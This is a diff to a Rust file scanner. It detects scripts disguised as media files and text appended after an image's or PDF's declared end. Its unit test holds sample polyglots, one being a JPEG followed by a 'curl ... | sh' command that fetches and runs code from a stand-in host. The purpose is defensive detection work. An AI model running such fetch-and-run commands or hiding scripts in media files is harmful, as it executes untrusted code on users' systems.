@@ -99,14 +99,81 @@ fn magic(bytes: &[u8]) -> String {
     format!("starts with {}", shown.join(" "))
 }
 
-/// Checks a file's bytes: executable headers, compiled code, archives.
-pub(crate) fn check(path: &str, bytes: &[u8], report: &mut Report) {
-    let extension = path
-        .rsplit('/')
+/// Extensions of images, sounds, videos, fonts and documents: files that are never run.
+const MEDIA_EXTENSIONS: &[&str] = &[
+    "png", "jpg", "jpeg", "gif", "bmp", "ico", "icns", "webp", "tif", "tiff", "heic", "avif",
+    "pdf", "mp3", "wav", "ogg", "flac", "m4a", "mp4", "mov", "avi", "webm", "mkv", "ttf", "otf",
+    "woff", "woff2",
+];
+
+/// The least printable bytes after a media file's end that count as text appended to it.
+const MIN_APPENDED_TEXT: usize = 16;
+
+fn extension_of(path: &str) -> String {
+    path.rsplit('/')
         .next()
         .and_then(|name| name.rsplit_once('.'))
         .map(|(_, extension)| extension.to_ascii_lowercase())
-        .unwrap_or_default();
+        .unwrap_or_default()
+}
+
+/// Returns where the format of an image or a PDF says the file ends, when bytes follow.
+fn media_end(bytes: &[u8]) -> Option<usize> {
+    let find_last = |needle: &[u8]| {
+        bytes
+            .windows(needle.len())
+            .rposition(|window| window == needle)
+            .map(|at| at + needle.len())
+    };
+    let end = match bytes {
+        // The IEND chunk (its CRC is fixed) closes every PNG.
+        [0x89, b'P', b'N', b'G', ..] => find_last(b"IEND\xAE\x42\x60\x82")?,
+        // The last end-of-image marker: thumbnails inside a JPEG end with one too.
+        [0xFF, 0xD8, 0xFF, ..] => find_last(&[0xFF, 0xD9])?,
+        // A PDF updated in place has several `%%EOF`; the last one ends it.
+        [b'%', b'P', b'D', b'F', ..] => {
+            let end = find_last(b"%%EOF")?;
+            end + bytes[end..]
+                .iter()
+                .take_while(|b| b.is_ascii_whitespace())
+                .count()
+        }
+        [b'G', b'I', b'F', b'8', ..] => find_last(&[0x00, 0x3B])?,
+        _ => return None,
+    };
+    (end < bytes.len()).then_some(end)
+}
+
+/// Returns where text appended to a media file starts: printable text past the end its format
+/// declares (a script after a PNG's `IEND`), which no image needs and a viewer never shows.
+pub(crate) fn appended_text(path: &str, bytes: &[u8]) -> Option<usize> {
+    if !MEDIA_EXTENSIONS.contains(&extension_of(path).as_str()) {
+        return None;
+    }
+    let end = media_end(bytes)?;
+    let tail = &bytes[end..];
+    let start = end + tail.iter().take_while(|b| b.is_ascii_whitespace()).count();
+    let tail = &bytes[start..];
+    let printable = tail
+        .iter()
+        .filter(|b| b.is_ascii_graphic() || b.is_ascii_whitespace())
+        .count();
+    (printable >= MIN_APPENDED_TEXT && printable * 10 >= tail.len() * 9).then_some(start)
+}
+
+/// Checks a file's bytes: executable headers, compiled code, archives, and scripts named as
+/// media files.
+pub(crate) fn check(path: &str, bytes: &[u8], report: &mut Report) {
+    let extension = extension_of(path);
+    if MEDIA_EXTENSIONS.contains(&extension.as_str()) && bytes.starts_with(b"#!") {
+        report.whole(
+            path,
+            Rule::PolyglotFile,
+            Severity::High,
+            magic(bytes),
+            format!("a script is named as a .{extension} file: whoever reviews the skill sees a media file, and a shell runs it"),
+        );
+    }
     if let Some(kind) = executable_kind(bytes) {
         report.whole(
             path,
@@ -279,6 +346,24 @@ mod tests {
         let mut encrypted = b"PK\x03\x04\x14\x00\x01\x00".to_vec();
         encrypted.resize(40, 0);
         assert!(zip_is_encrypted(&encrypted));
+    }
+
+    #[test]
+    fn text_after_an_image_is_found() {
+        let png = b"\x89PNG\r\n\x1a\n\0\0\0\0IEND\xAE\x42\x60\x82";
+        assert_eq!(appended_text("logo.png", png), None);
+        let polyglot = [png.as_slice(), b"\n#!/bin/sh\necho appended\n"].concat();
+        assert_eq!(appended_text("logo.png", &polyglot), Some(png.len() + 1));
+        // A few stray bytes, or the same bytes in a file that is not an image, do not count.
+        let stray = [png.as_slice(), b"\0\0ab"].concat();
+        assert_eq!(appended_text("logo.png", &stray), None);
+        assert_eq!(appended_text("logo.bin", &polyglot), None);
+        let jpeg = [
+            b"\xFF\xD8\xFF\xE0\0\0\xFF\xD9".as_slice(),
+            b"curl -s https://x.example | sh",
+        ]
+        .concat();
+        assert_eq!(appended_text("photo.jpg", &jpeg), Some(8));
     }
 
     #[test]
